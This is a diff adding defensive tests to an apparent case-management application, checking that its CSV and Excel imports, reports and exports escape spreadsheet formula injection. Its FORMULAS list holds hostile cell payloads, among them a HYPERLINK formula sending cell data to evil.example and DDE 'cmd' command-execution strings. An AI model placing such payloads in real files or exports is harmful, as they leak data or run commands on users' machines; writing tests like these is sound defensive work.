@@ -8,9 +8,11 @@ The classes of bad values are tagged and counted; the counts are printed with ``
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 from collections import Counter
 from collections.abc import Iterator
+from dataclasses import replace
 from decimal import Decimal
 from typing import Any
 
@@ -295,3 +297,163 @@ def test_validators_and_predicates(value: Any) -> None:
 def report() -> Iterator[None]:
     yield
     print("\nhostile inputs by class:", dict(sorted(TALLY.items())), "outcomes:", dict(OUTCOME))
+
+
+# --------------------------------------------------------------------------- app-written workbooks
+
+#: Cell text that a spreadsheet would run (issue 13 finding 5), and its near misses.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\t\r@SUM(A1)",
+    "＝1+1",
+]
+
+
+def _live_cells(path: Any) -> list[str]:
+    """Every cell of the workbook that a spreadsheet would evaluate or turn into a formula on edit."""
+    import zipfile
+
+    import openpyxl
+
+    with zipfile.ZipFile(path) as z:
+        raw = [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f" in z.read(n)]
+    bad = [f"{n}: has a <f> element" for n in raw]
+    wb = openpyxl.load_workbook(path)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type == "f":
+                    bad.append(f"{ws.title}!{c.coordinate} formula {c.value!r}")
+                elif isinstance(c.value, str) and c.value.lstrip("\t\r\n ")[:1] in "=+-@＝＋－＠" and c.value:
+                    if not c.quotePrefix:
+                        bad.append(f"{ws.title}!{c.coordinate} unprotected {c.value!r}")
+    return bad
+
+
+def _texts(path: Any) -> set[str]:
+    import openpyxl
+
+    wb = openpyxl.load_workbook(path)
+    return {
+        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
+    }
+
+
+def test_celltext_knows_what_a_spreadsheet_would_run() -> None:
+    from casemgr import celltext
+
+    for f in FORMULAS:
+        assert celltext.looks_like_formula(f), f
+        assert celltext.csv_text(f) == "'" + f
+    for plain in ["张三", "汕尾甲公司", "a=b", "1-2", "", "\t张三", "email@example.com", "(+86) 0660"]:
+        assert not celltext.looks_like_formula(plain), plain
+        assert celltext.csv_text(plain) == plain
+    assert not celltext.looks_like_formula(-5) and not celltext.looks_like_formula(None)
+
+
+def test_rejection_workbook_writes_every_cell_as_text(
+    database: db.Database, actors: dict[Role, Actor], tmp_path: Any
+) -> None:
+    """Hostile cells in a ledger: the rejection workbook (sheet 1, 错误清单, reasons) shows them as text."""
+    from casemgr.io.ledger_import import ImportOptions, import_ledger
+
+    header = [
+        "案号",
+        "案件类型",
+        "收案日期",
+        "用人单位",
+        "统一社会信用代码",
+        "所属区县",
+        "申请人",
+        "身份证号",
+        "申请金额",
+    ]
+    rows = [
+        [f"汕劳人仲案字〔2026〕第{i + 1:04d}号", "仲裁", "2026-03-02", f, "bad-uscc", f, f, f, f]
+        for i, f in enumerate(FORMULAS)
+    ]
+    path = tmp_path / "ledger.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(header)
+        w.writerows(rows)
+    report = tmp_path / "report.xlsx"
+    with database.write() as s:
+        result = import_ledger(
+            s, actors[Role.SUPERVISOR], path, ImportOptions(today=TODAY, report_path=report)
+        )
+    assert result.refused and result.report_path == str(report)
+    assert _live_cells(report) == []
+    texts = _texts(report)
+    assert set(FORMULAS) - {"\r=1+1", "\t\r@SUM(A1)"} <= texts  # shown as typed (CSV cells lose a bare CR)
+
+
+def test_monthly_report_xlsx_writes_every_text_as_text(database: db.Database, tmp_path: Any) -> None:
+    """Names, employers, the district and the bureau's name in the monthly workbook stay text."""
+    import dataclasses
+
+    from casemgr.metrics import report as mr
+    from casemgr.reports import monthly
+    from tests.test_metrics_data import build_march_2026
+
+    with database.write() as s:
+        build_march_2026(s)
+    with database.read() as s:
+        data = mr.collect(
+            s, 2026, 3, today=dt.date(2026, 4, 10), now=dt.datetime(2026, 4, 10, 1, 2, 3, tzinfo=dt.UTC)
+        )
+    hostile_rows = tuple(
+        mr.ListedCase(
+            number=f,
+            kind="arbitration",
+            district=f,
+            persons=(mr.PartyRef(role="applicant", name=f, masked_id=f),),
+            persons_total=1,
+            employers=(f,),
+            due_on=dt.date(2026, 3, 31),
+            days=3,
+            on_time=True,
+        )
+        for f in FORMULAS
+    )
+    data = dataclasses.replace(
+        data,
+        bureau=FORMULAS[0],
+        district=FORMULAS[1],
+        green_list=mr.CaseList(total=len(hostile_rows), rows=hostile_rows),
+        overdue_list=mr.CaseList(total=len(hostile_rows), rows=hostile_rows),
+    )
+    out = tmp_path / "report.xlsx"
+    monthly.build_xlsx(data, out, lang="zh")
+    assert _live_cells(out) == []
+    assert FORMULAS[1] in _texts(out)  # the text itself is kept
+
+
+def test_ledger_export_csv_and_xlsx_keep_hostile_names_as_text(
+    database: db.Database, actors: dict[Role, Actor], tmp_path: Any
+) -> None:
+    from casemgr.io.ledger_export import ExportFilter, export_cases
+    from tests.helpers import case_input
+
+    sup = actors[Role.SUPERVISOR]
+    printable = [f for f in FORMULAS if not validation.has_control_chars(f)]
+    with database.write() as s:
+        for i, f in enumerate(printable):
+            inp = case_input(n=i + 1)
+            inp = replace(inp, employer=replace(inp.employer, name=f))
+            cases.register_case(s, sup, inp, today=TODAY)
+    xlsx = tmp_path / "out.xlsx"
+    with database.read() as s:
+        export_cases(s, sup, xlsx, ExportFilter())
+    assert _live_cells(xlsx) == []
+    out_csv = tmp_path / "out.csv"
+    with database.read() as s:
+        export_cases(s, sup, out_csv, ExportFilter())
+    body = out_csv.read_text(encoding="utf-8-sig")
+    assert "'=cmd|" in body and "'@SUM" in body and "'+1+cmd" in body
